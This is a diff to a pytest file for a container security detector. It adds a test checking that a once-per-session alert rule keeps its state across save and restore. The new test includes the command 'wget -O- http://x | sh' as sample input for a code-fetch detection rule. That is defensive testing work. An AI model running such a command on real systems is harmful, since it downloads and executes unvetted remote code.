@@ -9,6 +9,7 @@ import pytest
 from listener.model.event import Actor, Event, Who, natural_id
 from listener.rules.base import RuleContext
 from listener.rules.registry import evaluate
+from listener.rules.snapshot import decode, encode
 
 CONTAINER = "f" * 64
 SESSION = "e" * 64
@@ -156,3 +157,14 @@ def test_interactive_root_shell_once_per_session() -> None:
     assert "exec-root-shell" not in fired(command(["sh"], tty=False, session="1" * 64), ctx)
     assert "exec-root-shell" not in fired(command(["sh"], tty=True, uid=1000, session="2" * 64))
     assert "exec-root-shell" not in fired(command(["sh", "-c", "id"], tty=True, session="3" * 64))
+
+
+def test_once_per_session_survives_a_saved_and_restored_rule_state() -> None:
+    ctx = RuleContext()
+    script = ["sh", "-c", "wget -O- http://x | sh"]
+    assert "exec-code-fetch" in fired(command(script), ctx)
+
+    restored = RuleContext()
+    restored.state = decode(encode(ctx.state))
+
+    assert "exec-code-fetch" not in fired(command(script), restored)
